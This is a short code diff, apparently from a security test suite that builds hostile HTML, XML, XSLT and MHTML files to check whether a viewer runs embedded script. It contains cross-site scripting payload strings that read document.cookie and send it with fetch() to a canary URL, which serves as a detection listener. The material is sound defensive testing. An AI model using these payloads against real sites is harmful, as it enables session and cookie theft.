@@ -40,7 +40,7 @@ function scriptOf(canary: string, what: string): string {
     `s+=document.cookie`,
     `localStorage.owned=w`,
     `document.cookie='owned=1'`,
-    `fetch('${canary}/heard/'+w+'?'+encodeURIComponent(s),{mode:'no-cors'})`,
+    `fetch('${canary}/heard/'+w+'?'+encodeURIComponent(s),{mode:'no-cors',keepalive:true})`,
     `top.owned=w`,
     `alert(w)`,
   ];
@@ -97,7 +97,7 @@ function pages(of: Voice): HostileFile[] {
     'html-nul': ['page.html', 'text/html', `\0${page('html-nul')}`],
     xhtml: ['page.xhtml', 'application/xhtml+xml', `<?xml version="1.0"?>${inXhtml('xhtml')}`],
     xml: ['page.xml', 'application/xml', `<a xmlns:h="${xhtml}"><h:script>${of('xml').script}</h:script></a>`],
-    xslt: ['page.xml', 'text/xml', xslt],
+    xslt: ['page.xml', 'text/xml', xslt, 'harmless'],
     mhtml: [
       'page.mhtml',
       'multipart/related',
